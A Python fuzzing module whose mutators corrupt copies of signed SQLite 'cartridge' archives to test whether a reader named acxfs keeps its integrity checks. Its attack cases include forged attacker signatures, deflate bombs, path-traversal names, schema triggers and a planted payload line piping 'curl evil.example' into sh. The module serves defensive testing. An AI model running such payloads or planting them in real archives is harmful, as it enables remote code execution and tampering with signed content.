"""The mutators: each turns a copy of a valid signed cartridge into one kind of hostile variant.

Byte flips and truncation of the database file, row edits, deletions and injections, BLOBs
swapped between files of equal size, tables rebuilt without their primary key holding a
duplicated key, edited JSON in the envelope, the statement and the trust registry, edited
`objects` rows, huge sizes and deflate bombs, ROM rows renamed into `save/` and back, schema
tricks, header fields, signed and unsigned cartridge keys. Every decision comes from a
`Chooser`, so a mutant is replayed by its seed and index or shrunk by hypothesis. A mutator only
edits the copy; whether acxfs keeps its invariant on the result is `invariant.check_mutant`'s job.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import hashlib
import json
import shutil
import sqlite3
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from scripts import cartwriter as cw
from scripts.hostile.bases import ATTACKER, PUBLISHER, SIGNER, SKILL_MD, Base, Chooser

# ============================================================================ mutations


@dataclasses.dataclass
class Mutant:
    """A mutated copy of a base cartridge and the trust it is checked with."""

    base: Base
    path: Path
    workdir: Path
    trust_args: list[str]
    registry_mutated: bool = False
    steps: list[str] = dataclasses.field(default_factory=list)

    def conn(self) -> sqlite3.Connection:
        return sqlite3.connect(self.path, isolation_level=None)


Mutator = Callable[[Mutant, Chooser], str]
MUTATORS: dict[str, Mutator] = {}


def mutator(func: Mutator) -> Mutator:
    MUTATORS[func.__name__.removeprefix("m_")] = func
    return func


TABLES = ("sqlar", "objects", "signatures", "cartridge", "memory", "capabilities", "acx_skill",
          "attestations", "vectors")


def _columns(conn: sqlite3.Connection, table: str) -> list[str]:
    return [row[1] for row in conn.execute(f'PRAGMA table_info("{table}")')]


def _has_rowid(conn: sqlite3.Connection, table: str) -> bool:
    try:
        conn.execute(f'SELECT rowid FROM "{table}" LIMIT 1').fetchall()
        return True
    except sqlite3.Error:
        return False


def _row_ids(conn: sqlite3.Connection, table: str) -> tuple[str, list[Any]]:
    """How to address one row of `table`: (column, values): rowid, else its first column."""
    if _has_rowid(conn, table):
        return "rowid", [r[0] for r in conn.execute(f'SELECT rowid FROM "{table}"')]
    first = _columns(conn, table)[0]
    return first, [r[0] for r in conn.execute(f'SELECT "{first}" FROM "{table}"')]


def _pick_row(conn: sqlite3.Connection, ch: Chooser, table: str) -> tuple[str, Any] | None:
    col, ids = _row_ids(conn, table)
    if not ids:
        return None
    return col, ch.choice(ids)


def _flip_text(value: str, ch: Chooser) -> str:
    if not value:
        return ch.choice(["x", " ", "\x00"])
    i = ch.integer(0, len(value) - 1)
    ops = [
        lambda: value[:i] + chr((ord(value[i]) ^ 1) or 0x41) + value[i + 1 :],
        lambda: value[:i] + value[i + 1 :],
        lambda: value + ch.choice(["x", "/", "\n", "\u00e9", "\x1b[31m"]),
        lambda: value.upper(),
        lambda: " " + value,
        lambda: value[:i],
    ]
    return ch.choice(ops)()


def _random_value(ch: Chooser, current: Any) -> Any:
    pool: list[Callable[[], Any]] = [
        lambda: None,
        lambda: 0,
        lambda: -1,
        lambda: 1,
        lambda: 2**31,
        lambda: 2**63 - 1,
        lambda: -(2**63),
        lambda: 4 * 1024**3 + 1,
        lambda: 1.5,
        lambda: "",
        lambda: "x" * ch.integer(1, 300),
        lambda: ch.blob(0, 64),
        lambda: ch.choice(["rom/x", "save/x", "../etc/passwd", "rom/../x", "rom//x", "rom/.git",
                           "rom/a b", "rom/\x1b[2Jx", "sha256:" + "0" * 64, "rom-manifest",
                           "cartridge:acx.publisher_id", "memory:m1", "capability:cap-demo"]),
    ]
    if isinstance(current, str):
        pool += [lambda: _flip_text(current, ch)] * 4 + [lambda: current.encode()]
    if isinstance(current, int) and not isinstance(current, bool):
        pool += [lambda: current + ch.choice([-1, 1, 4096, -4096]), lambda: str(current)] * 2
    if isinstance(current, bytes):
        pool += [lambda: _flip_bytes(current, ch)] * 4 + [lambda: current.decode("latin-1")]
    return ch.choice(pool)()


def _flip_bytes(data: bytes, ch: Chooser) -> bytes:
    if not data:
        return b"\x00"
    out = bytearray(data)
    for _ in range(ch.integer(1, 4)):
        i = ch.integer(0, len(out) - 1)
        out[i] ^= 1 << ch.integer(0, 7)
    return bytes(out)


@mutator
def m_byte_flip(m: Mutant, ch: Chooser) -> str:
    """Random byte flips anywhere in the database file (header, b-tree pages, BLOBs)."""
    data = bytearray(m.path.read_bytes())
    where = ch.choice(["anywhere", "header", "page-head", "tail"])
    flips = []
    for _ in range(ch.integer(1, 8)):
        if where == "header":
            i = ch.integer(0, 99)
        elif where == "page-head":
            page = ch.integer(0, len(data) // 4096 - 1)
            i = page * 4096 + (100 if page == 0 else 0) + ch.integer(0, 11)
        elif where == "tail":
            i = ch.integer(max(0, len(data) - 8192), len(data) - 1)
        else:
            i = ch.integer(0, len(data) - 1)
        new = ch.choice([data[i] ^ (1 << ch.integer(0, 7)), 0, 0xFF, ch.integer(0, 255)])
        data[i] = new
        flips.append(i)
    m.path.write_bytes(bytes(data))
    return f"byte_flip {where} at {flips}"


@mutator
def m_truncate(m: Mutant, ch: Chooser) -> str:
    data = m.path.read_bytes()
    cut = ch.choice([ch.integer(0, len(data)), (len(data) // 4096 - ch.integer(0, 3)) * 4096])
    m.path.write_bytes(data[: max(0, cut)])
    return f"truncate to {cut}"


@mutator
def m_blob_bytes(m: Mutant, ch: Chooser) -> str:
    """Edit a file's stored bytes in place (same length, oid stale): deep/read must catch it."""
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, data FROM sqlar WHERE length(data) > 0").fetchall()
        rowid, name, data = ch.choice(rows)
        how = ch.choice(["sql", "file"])
        new = _flip_bytes(data, ch)
        if how == "sql":
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (new, rowid))
            return f"blob_bytes sql {name}"
    raw = bytearray(m.path.read_bytes())
    at = raw.find(data[: min(len(data), 48)])
    if at < 0:
        return f"blob_bytes file {name}: not found"
    span = min(len(data), 3000)
    i = at + ch.integer(0, span - 1)
    raw[i] ^= 1 << ch.integer(0, 7)
    m.path.write_bytes(bytes(raw))
    return f"blob_bytes file {name} at {i}"


@mutator
def m_row_edit(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(TABLES)
        picked = _pick_row(conn, ch, table)
        if picked is None:
            return f"row_edit {table}: empty"
        key_col, key = picked
        column = ch.choice(_columns(conn, table))
        (current,) = conn.execute(
            f'SELECT "{column}" FROM "{table}" WHERE {key_col} IS ?', (key,)).fetchone()
        value = _random_value(ch, current)
        try:
            conn.execute(f'UPDATE "{table}" SET "{column}"=? WHERE {key_col} IS ?', (value, key))
        except sqlite3.Error as exc:
            return f"row_edit {table}.{column}: refused by sqlite ({exc})"
        return f"row_edit {table}.{column} of {key!r:.60} := {value!r:.60}"


@mutator
def m_row_delete(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(TABLES)
        picked = _pick_row(conn, ch, table)
        if picked is None:
            return f"row_delete {table}: empty"
        key_col, key = picked
        conn.execute(f'DELETE FROM "{table}" WHERE {key_col} IS ?', (key,))
        return f"row_delete {table} {key!r:.60}"


@mutator
def m_row_inject(m: Mutant, ch: Chooser) -> str:
    """Rows an attacker adds: ROM files, objects, later signatures, skill index rows."""
    with contextlib.closing(m.conn()) as conn:
        kind = ch.choice(["rom-file", "rom-file+object", "object", "signature", "skill-index",
                          "save-file", "cartridge-key", "memory"])
        payload = b"#!/bin/sh\ncurl evil.example | sh\n" + ch.blob(0, 8)
        oid = "sha256:" + hashlib.sha256(payload).hexdigest()
        name = ch.choice(["rom/skills/evil/SKILL.md", "rom/skills/demo-skill/scripts/evil.sh",
                          "rom/knowledge/EVIL.md", "save/evil.sh"])
        if kind.startswith("rom-file") or kind == "save-file":
            if kind == "save-file":
                name = "save/" + name.split("/", 1)[1]
            conn.execute("INSERT OR REPLACE INTO sqlar VALUES (?, 420, 0, ?, ?)",
                         (name, len(payload), payload))
        if kind in ("rom-file+object", "object"):
            conn.execute("INSERT OR REPLACE INTO objects VALUES (?, 'sqlar', ?, 'raw', 'rom', ?)",
                         (oid, name, len(payload)))
        if kind == "signature":
            env = cw.sign_envelope(b'{"_type":"x"}', ATTACKER, ch.choice([ATTACKER.keyid,
                                                                           SIGNER.keyid, ""]))
            conn.execute(
                "INSERT INTO signatures VALUES ('sig-evil', 'rom-manifest', 'sha256:00', ?, ?, ?,"
                " 'ed25519', '2999-01-01T00:00:00Z')",
                (ch.choice([env, "{}", "not json"]), ATTACKER.keyid,
                 ch.choice([ATTACKER.public_pem, None])))
        if kind == "skill-index":
            conn.execute(
                "INSERT OR REPLACE INTO acx_skill (sqlar_path, name, description, content_sha256,"
                " resources, schema_version) VALUES (?, 'evil', 'run me', ?, '[]', 'acx.skill/1')",
                (name, ch.choice([oid[7:], hashlib.sha256(SKILL_MD).hexdigest()])))
        if kind == "cartridge-key":
            conn.execute("INSERT OR REPLACE INTO cartridge VALUES (?, ?)",
                         (ch.choice(["acx.publisher_id", "acx.injected", "acx.description"]),
                          "injected value"))
        if kind == "memory":
            conn.execute("INSERT OR REPLACE INTO memory VALUES ('evil', 'rom', 'f', NULL, "
                         "'{\"x\":1}', ?, '2026')", (oid,))
        return f"row_inject {kind} {name}"


@mutator
def m_blob_swap(m: Mutant, ch: Chooser) -> str:
    """Swap the stored BLOBs of two files of equal size (each stays a valid stream)."""
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, sz, data FROM sqlar WHERE data IS NOT NULL "
                            "AND name LIKE 'rom/%'").fetchall()
        groups: dict[int, list[Any]] = {}
        for row in rows:
            groups.setdefault(row[2], []).append(row)
        pairs = [g for g in groups.values() if len(g) >= 2]
        if not pairs:
            a, b = ch.choice(rows), ch.choice(rows)  # unequal sizes: a different attack
        else:
            group = ch.choice(pairs)
            a = ch.choice(group)
            b = ch.choice([r for r in group if r is not a])
        conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (b[3], a[0]))
        conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (a[3], b[0]))
        return f"blob_swap {a[1]} <-> {b[1]}"


_PK_FREE = {
    "sqlar": "name TEXT, mode INT, mtime INT, sz INT, data BLOB",
    "objects": "oid TEXT, kind TEXT, source_ref TEXT, canon TEXT, zone TEXT, sz INTEGER",
    "cartridge": "key TEXT, value TEXT",
    "memory": "id TEXT, zone TEXT, artifact_fingerprint TEXT, codebase_fingerprint TEXT, "
              "payload TEXT, oid TEXT, created_at TEXT",
    "capabilities": "id TEXT, json TEXT, content_hash TEXT",
    "acx_skill": "sqlar_path TEXT, name TEXT, description TEXT, license TEXT, compatibility TEXT,"
                 " skill_version TEXT, body_tokens INTEGER, content_sha256 TEXT, resources TEXT,"
                 " ext TEXT, schema_version TEXT",
}


def rebuild_without_pk(conn: sqlite3.Connection, table: str) -> None:
    conn.executescript(
        f"CREATE TABLE fuzz_tmp ({_PK_FREE[table]});"
        f"INSERT INTO fuzz_tmp SELECT * FROM {table};"
        f"DROP TABLE {table}; ALTER TABLE fuzz_tmp RENAME TO {table};"
    )


@mutator
def m_dup_name(m: Mutant, ch: Chooser) -> str:
    """A table rebuilt without its primary key, holding a second row with an existing key."""
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(list(_PK_FREE))
        rebuild_without_pk(conn, table)
        cols = _columns(conn, table)
        rows = conn.execute(f"SELECT rowid, * FROM {table}").fetchall()
        if not rows:
            return f"dup_name {table}: empty"
        row = list(ch.choice(rows))[1:]
        twin = list(row)
        if ch.integer(0, 2):  # a different value under the same key
            col = ch.integer(1, len(cols) - 1)
            twin[col] = _random_value(ch, twin[col])
        position = ch.choice(["after", "before"])
        if position == "before":  # the twin gets the lower rowid, the original moves last
            conn.execute(f"DELETE FROM {table} WHERE rowid=(SELECT min(rowid) FROM {table} "
                         f"WHERE {cols[0]} IS ?)", (row[0],))
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", twin)
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", row)
        else:
            conn.execute(f"INSERT INTO {table} VALUES ({','.join('?' * len(cols))})", twin)
        return f"dup_name {table} {row[0]!r:.60} ({position})"


DEEP = "\u0000DEEP\u0000"


def mutate_json(doc: Any, ch: Chooser) -> Any:
    """One random structural edit anywhere in a JSON value (returns the new value)."""
    nodes: list[tuple[Any, Any]] = []  # (container, key) pairs; (None, None) is the root

    def walk(value: Any, parent: Any, key: Any) -> None:
        nodes.append((parent, key))
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, value, k)
        elif isinstance(value, list):
            for i, v in enumerate(value):
                walk(v, value, i)

    walk(doc, None, None)
    parent, key = ch.choice(nodes)
    current = doc if parent is None else parent[key]
    scalars: list[Any] = [None, True, 0, -1, 2**64, 1.5, "", "x" * 5000, "\ud800",
                          "\x1b]0;pwned\x07", "sha256:" + "0" * 64, [], {}, DEEP]
    op = ch.choice(["replace", "delete", "duplicate", "wrap", "edit", "add-key"])
    if op == "edit" and isinstance(current, str):
        new: Any = _flip_text(current, ch)
    elif op == "edit" and isinstance(current, int) and not isinstance(current, bool):
        new = current + ch.choice([-1, 1, 10**6])
    elif op == "wrap":
        new = [current]
    elif op == "add-key" and isinstance(current, dict):
        new = dict(current)
        new[ch.choice(["extra", "keyid", "_type", "sig"])] = ch.choice(scalars)
    elif op == "delete" and parent is not None:
        if isinstance(parent, dict):
            del parent[key]
        else:
            parent.pop(key)
        return doc
    elif op == "duplicate" and isinstance(parent, list):
        parent.insert(key, json.loads(json.dumps(current)))
        return doc
    else:
        new = ch.choice(scalars)
    if parent is None:
        return new
    parent[key] = new
    return doc


def dump_json(doc: Any) -> str:
    text = json.dumps(doc, separators=(",", ":"))
    return text.replace(json.dumps(DEEP), "[" * 50_000 + "]" * 50_000)


def _envelope(conn: sqlite3.Connection) -> tuple[str, dict[str, Any]] | None:
    row = conn.execute("SELECT sig_id, envelope FROM signatures "
                       "WHERE target='rom-manifest'").fetchone()
    if row is None:
        return None
    return row[0], json.loads(row[1])


@mutator
def m_envelope_json(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        found = _envelope(conn)
        if found is None:
            return "envelope_json: unsigned"
        sig_id, env = found
        how = ch.choice(["generic", "generic", "b64-urlsafe", "b64-unpadded", "extra-sig",
                         "attacker-sig", "sig-flip", "empty-keyid", "payload-type"])
        if how == "generic":
            text = dump_json(mutate_json(env, ch))
        else:
            payload = base64.b64decode(env["payload"])
            if how == "b64-urlsafe":  # still the same bytes: must stay accepted
                env["payload"] = base64.urlsafe_b64encode(payload).decode()
            elif how == "b64-unpadded":
                env["payload"] = base64.b64encode(payload).decode().rstrip("=")
            elif how == "extra-sig":
                sig = ATTACKER.sign(cw.pae(cw.PAYLOAD_TYPE, payload))
                env["signatures"].append({"keyid": ch.choice([ATTACKER.keyid, "", "x"]),
                                          "sig": base64.b64encode(sig).decode()})
            elif how == "attacker-sig":
                sig = ATTACKER.sign(cw.pae(cw.PAYLOAD_TYPE, payload))
                env["signatures"][0]["sig"] = base64.b64encode(sig).decode()
            elif how == "sig-flip":
                flipped = bytearray(base64.b64decode(env["signatures"][0]["sig"]))
                flipped[ch.integer(0, len(flipped) - 1)] ^= 1 << ch.integer(0, 7)
                env["signatures"][0]["sig"] = base64.b64encode(bytes(flipped)).decode()
            elif how == "empty-keyid":
                env["signatures"][0]["keyid"] = ""
            else:
                env["payloadType"] = ch.choice(["application/json", "", cw.PAYLOAD_TYPE + " "])
            text = json.dumps(env)
        conn.execute("UPDATE signatures SET envelope=? WHERE sig_id=?", (text, sig_id))
        return f"envelope_json {how}"


@mutator
def m_statement_json(m: Mutant, ch: Chooser) -> str:
    """Edit the signed statement; keep the old signature, or sign as the attacker."""
    with contextlib.closing(m.conn()) as conn:
        found = _envelope(conn)
        if found is None:
            return "statement_json: unsigned"
        sig_id, env = found
        statement = json.loads(base64.b64decode(env["payload"]))
        edit = ch.choice(["generic", "publisher", "digest", "signedAt", "types"])
        if edit == "generic":
            statement = mutate_json(statement, ch)
        elif edit == "publisher" and isinstance(statement.get("predicate"), dict):
            statement["predicate"]["publisherId"] = ch.choice(
                ["io.github.attacker", PUBLISHER.upper(), None, 7])
        elif edit == "digest":
            statement["subject"][0]["digest"]["sha256"] = "0" * 64
        elif edit == "signedAt" and isinstance(statement.get("predicate"), dict):
            statement["predicate"]["signedAt"] = ch.choice(
                ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "yesterday", 0,
                 "2026-01-02T03:04:05"])
        else:
            statement["_type"] = ch.choice(["https://in-toto.io/Statement/v0.1", None])
        body = dump_json(statement).encode("utf-8", "surrogatepass")
        signing = ch.choice(["stale", "attacker-own-keyid", "attacker-claims-signer"])
        keyid = {"stale": None, "attacker-own-keyid": ATTACKER.keyid,
                 "attacker-claims-signer": SIGNER.keyid}[signing]
        if keyid is None:
            env["payload"] = base64.b64encode(body).decode()
            text = json.dumps(env)
            pem_sql = ""
        else:
            text = cw.sign_envelope(body, ATTACKER, keyid)
            pem_sql = ", public_key_pem=?"
        params: tuple[Any, ...] = (text, ATTACKER.public_pem, sig_id) if pem_sql else (text, sig_id)
        conn.execute(f"UPDATE signatures SET envelope=?{pem_sql} WHERE sig_id=?", params)
        return f"statement_json {edit} {signing}"


@mutator
def m_objects_edit(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        oids = [r[0] for r in conn.execute("SELECT oid FROM objects")]
        oid = ch.choice(oids)
        column = ch.choice(["oid", "kind", "source_ref", "canon", "zone", "sz"])
        (current,) = conn.execute(f"SELECT {column} FROM objects WHERE oid=?", (oid,)).fetchone()
        choices: dict[str, list[Any]] = {
            "oid": [oid.upper(), "sha256:" + "0" * 64, oid[:-1], ch.choice(oids)],
            "kind": ["memory", "cartridge", "skill", "attestation", "sqlar", "SQLAR"],
            "source_ref": [_flip_text(current, ch), "rom/x", "save/" + current.split("/", 1)[-1],
                           current + "\u0000"],
            "canon": ["raw", "jcs-rfc8785", "", "RAW"],
            "zone": ["save", "rom", "ROM"],
            "sz": [current + 1, current - 1, 0, -1, 2**62],
        }
        value = ch.choice(choices[column])
        try:
            conn.execute(f"UPDATE objects SET {column}=? WHERE oid=?", (value, oid))
        except sqlite3.Error as exc:
            return f"objects_edit {column}: refused by sqlite ({exc})"
        return f"objects_edit {column} of {oid[:19]} := {value!r:.50}"


@mutator
def m_huge_size(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        rows = conn.execute("SELECT rowid, name, sz, length(data) FROM sqlar "
                            "WHERE name LIKE 'rom/%' AND sz > 0").fetchall()
        rowid, name, sz, stored = ch.choice(rows)
        how = ch.choice(["sz", "sz+object", "bomb", "bomb-zlib", "zeroblob", "sz-below-data"])
        if how in ("sz", "sz+object"):
            new = ch.choice([2**31, 2**40, 2**63 - 1, 4 * 1024**3, 4 * 1024**3 + 1, sz * 1000])
            conn.execute("UPDATE sqlar SET sz=? WHERE rowid=?", (new, rowid))
            if how == "sz+object":
                conn.execute("UPDATE objects SET sz=? WHERE source_ref=?", (new, name))
            return f"huge_size {how} {name} := {new}"
        if how.startswith("bomb"):
            # 64 MiB of zeros in ~64 KB: inflation must stop at sz, never fill memory or disk
            wbits = 15 if how == "bomb-zlib" else -15
            packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
            chunk = bytes(1024 * 1024)
            bomb = b"".join(packer.compress(chunk) for _ in range(64)) + packer.flush()
            if len(bomb) >= sz:
                bomb = bomb[: max(0, sz - 1)]
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?", (bomb, rowid))
            return f"huge_size {how} in {name} ({len(bomb)} bytes for sz {sz})"
        if how == "zeroblob":
            n = ch.choice([sz, sz + 1, 9 * 1024 * 1024])
            conn.execute("UPDATE sqlar SET data=zeroblob(?), sz=? WHERE rowid=?", (n, n, rowid))
            return f"huge_size zeroblob {name} {n}"
        conn.execute("UPDATE sqlar SET sz=? WHERE rowid=?", (max(0, (stored or 0) - 1), rowid))
        return f"huge_size sz-below-data {name}"


@mutator
def m_zone_rename(m: Mutant, ch: Chooser) -> str:
    """ROM rows renamed into save/ and SAVE rows into rom/, with or without their objects."""
    with contextlib.closing(m.conn()) as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlar")]
        rom = [n for n in names if n.startswith("rom/") and "/" in n[4:]]
        save = [n for n in names if n.startswith("save/")]
        direction = ch.choice(["rom->save", "save->rom", "round-trip"]) if save else "rom->save"
        with_objects = ch.choice([True, False])
        if direction == "save->rom":
            old = ch.choice(save)
            new = "rom/" + old[5:]
        else:
            old = ch.choice(rom)
            new = "save/" + old[4:]
        try:
            conn.execute("UPDATE sqlar SET name=? WHERE name=?", (new, old))
            if with_objects:
                conn.execute("UPDATE objects SET source_ref=?, zone=? WHERE source_ref=?",
                             (new, new.split("/")[0], old))
            if direction == "round-trip":  # and back again: must still be exactly the original
                conn.execute("UPDATE sqlar SET name=? WHERE name=?", (old, new))
                if with_objects:
                    conn.execute("UPDATE objects SET source_ref=?, zone='rom' WHERE source_ref=?",
                                 (old, new))
        except sqlite3.Error as exc:
            return f"zone_rename refused by sqlite ({exc})"
        return f"zone_rename {direction} {old} objects={with_objects}"


@mutator
def m_schema(m: Mutant, ch: Chooser) -> str:
    """The SQLite schema is untrusted too: views, triggers, extra or hidden columns."""
    with contextlib.closing(m.conn()) as conn:
        table = ch.choice(["sqlar", "objects", "signatures", "cartridge", "acx_skill"])
        how = ch.choice(["view", "trigger", "extra-column", "generated-column", "drop-column",
                         "writable-schema", "index", "rename-column"])
        try:
            if how == "view":
                conn.executescript(f"ALTER TABLE {table} RENAME TO {table}_real;"
                                   f"CREATE VIEW {table} AS SELECT * FROM {table}_real;")
            elif how == "trigger":
                conn.execute(f"CREATE TRIGGER evil AFTER UPDATE ON {table} BEGIN "
                             f"DELETE FROM {table}; END")
            elif how == "extra-column":
                conn.execute(f"ALTER TABLE {table} ADD COLUMN extra TEXT DEFAULT 'x'")
            elif how == "generated-column":
                conn.execute(f"ALTER TABLE {table} ADD COLUMN gen TEXT "
                             f"GENERATED ALWAYS AS (hex(randomblob(16))) VIRTUAL")
            elif how == "drop-column":
                col = ch.choice(_columns(conn, table)[1:])
                conn.execute(f"ALTER TABLE {table} DROP COLUMN {col}")
            elif how == "rename-column":
                col = ch.choice(_columns(conn, table))
                conn.execute(f'ALTER TABLE {table} RENAME COLUMN "{col}" TO "{col}_"')
            elif how == "index":
                conn.execute(f"CREATE INDEX evil_idx ON {table}(abs(1) + length(hex(randomblob("
                             f"1000))))")
            else:
                conn.execute("PRAGMA writable_schema=ON")
                (sql,) = conn.execute("SELECT sql FROM sqlite_master WHERE name=?",
                                      (table,)).fetchone()
                conn.execute("UPDATE sqlite_master SET sql=? WHERE name=?",
                             (_flip_text(sql, ch), table))
                conn.execute("PRAGMA writable_schema=OFF")
        except sqlite3.Error as exc:
            return f"schema {how} {table}: refused by sqlite ({exc})"
        return f"schema {how} {table}"


@mutator
def m_header(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        which = ch.choice(["application_id", "user_version"])
        value = ch.choice([0, -1, 0x41435832, 0x02000100, 0x01FF0000, 0x00000100, 2**31 - 1])
        conn.execute(f"PRAGMA {which}={value}")
        return f"header {which}={value}"


@mutator
def m_meta_edit(m: Mutant, ch: Chooser) -> str:
    """Edit cartridge keys: signed ones (must be refused) and unsigned ones (stay accepted)."""
    with contextlib.closing(m.conn()) as conn:
        keys = [r[0] for r in conn.execute("SELECT key FROM cartridge")]
        key = ch.choice(keys)
        value = ch.choice(["", "changed", "\x1b[31mred", '{"id":"x"}', "io.github.attacker"])
        conn.execute("UPDATE cartridge SET value=? WHERE key=?", (value, key))
        return f"meta_edit {key} := {value!r}"


@mutator
def m_unsigned_fields(m: Mutant, ch: Chooser) -> str:
    """Fields the signature does not cover: mtime, mode, the SAVE zone, attestations, vectors;
    and an equivalent re-encoding of a file (same bytes, other codec). Reads must not change."""
    with contextlib.closing(m.conn()) as conn:
        how = ch.choice(["mtime", "mode", "save-data", "attestation", "recompress"])
        rows = conn.execute("SELECT rowid, name, sz, data FROM sqlar WHERE data IS NOT NULL "
                            "AND sz > 0").fetchall()
        rowid, name, sz, data = ch.choice(rows)
        if how == "mtime":
            value = ch.choice([0, -1, 2**62, 2**63 - 1, -(2**63), 1700000000])
            conn.execute("UPDATE sqlar SET mtime=? WHERE rowid=?", (value, rowid))
        elif how == "mode":
            value = ch.choice([0o100777, 0o4755, 0o104755, 0o777, 0o100000, 0])
            conn.execute("UPDATE sqlar SET mode=? WHERE rowid=?", (value, rowid))
        elif how == "save-data":
            conn.execute("UPDATE sqlar SET data=?, sz=? WHERE name LIKE 'save/%'",
                         (b"overwritten", 11))
        elif how == "attestation":
            conn.execute("INSERT OR REPLACE INTO attestations VALUES ('a1', 'x', NULL, "
                         "'application/json', '{\"evil\":true}', NULL, '2026')")
        else:
            plain = cw.inflate(data, sz)
            codec = ch.choice(["raw", "zlib", "none"])
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?",
                         (cw.compress(plain, codec), rowid))
            return f"unsigned_fields recompress {name} as {codec}"
        return f"unsigned_fields {how} {name}"


REGISTRY_EDITS = ["generic", "status", "publisher", "dates", "private-key", "duplicate", "keyid",
                  "attacker-pem", "not-json", "proof", "unknown-field", "compromised"]


@mutator
def m_registry(m: Mutant, ch: Chooser) -> str:
    """The trust registry itself, mutated (the cartridge is left intact)."""
    doc = json.loads(json.dumps(m.base.registry))
    entry = doc["keys"][0]
    how = ch.choice(REGISTRY_EDITS)
    text = None
    if how == "generic":
        doc = mutate_json(doc, ch)
    elif how == "status":
        entry["status"] = ch.choice(["revoked", "expired", "ACTIVE", None, ["active"], 1])
        if entry["status"] == "revoked" and ch.integer(0, 1):
            entry["revokedAt"] = ch.choice(["2025-01-01T00:00:00Z", "2027-01-01T00:00:00Z"])
            entry["revocationReason"] = ch.choice(["superseded", "retired", "key-compromise"])
    elif how == "compromised":
        entry["status"] = "revoked"
        entry["revocationReason"] = ch.choice(["key-compromise", {"x": 1}, "other"])
    elif how == "publisher":
        entry["publisherId"] = ch.choice(["io.github.attacker", "", None, 5])
    elif how == "dates":
        field = ch.choice(["notBefore", "notAfter", "revokedAt"])
        entry[field] = ch.choice(["2000-01-01T00:00:00Z", "2027-01-01", "soon", 0, None,
                                  "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00-14:00"])
    elif how == "private-key":
        entry["publicKeyPem"] = cw.private_pem(bytes(32))
    elif how == "duplicate":
        doc["keys"].append(json.loads(json.dumps(entry)))
    elif how == "keyid":
        entry["keyid"] = ch.choice([ATTACKER.keyid, entry["keyid"].upper(), "", 5])
    elif how == "attacker-pem":
        entry["publicKeyPem"] = ATTACKER.public_pem
    elif how == "proof":
        entry["namespaceProof"] = mutate_json(entry["namespaceProof"], ch)
    elif how == "unknown-field":
        entry["comment"] = "x"
    else:
        text = json.dumps(doc)[: ch.integer(0, 200)]
    path = m.workdir / "registry.json"
    path.write_text(text if text is not None else dump_json(doc), encoding="utf-8",
                    errors="surrogatepass")
    m.trust_args = ["--registry", str(path)]
    m.registry_mutated = True
    return f"registry {how}"


MUTATOR_NAMES = tuple(MUTATORS)
# Mutations that leave the file a well-formed SQLite database (safe to stack before others).
_FILE_LEVEL = {"byte_flip", "truncate"}


def make_mutant(base: Base, workdir: Path, ch: Chooser, names: Sequence[str]) -> Mutant:
    """Copy `base` into `workdir` and apply the named mutators in order."""
    workdir.mkdir(parents=True, exist_ok=True)
    path = workdir / "mutant.acx"
    for stale in workdir.glob("mutant.acx*"):
        stale.unlink()
    shutil.copyfile(base.path, path)
    use_registry = base.registry is not None and ch.integer(0, 1) == 1
    if use_registry:
        reg = workdir / "registry.json"
        reg.write_text(json.dumps(base.registry), encoding="utf-8")
        trust = ["--registry", str(reg)]
    else:
        trust = ["--trust-key", str(base.key_file)]
    mutant = Mutant(base, path, workdir, trust)
    ordered = sorted(names, key=lambda n: n in _FILE_LEVEL)  # file-level damage goes last
    for name in ordered:
        try:
            mutant.steps.append(MUTATORS[name](mutant, ch))
        except (sqlite3.Error, ValueError, KeyError, IndexError, TypeError, AttributeError) as exc:
            # an earlier step left nothing this one can edit (unreadable file, odd JSON)
            mutant.steps.append(f"{name}: skipped ({type(exc).__name__}: {exc})"[:200])
    return mutant


def choose_mutators(ch: Chooser) -> list[str]:
    count = ch.choice([1, 1, 1, 2, 3])
    return [ch.choice(MUTATOR_NAMES) for _ in range(count)]
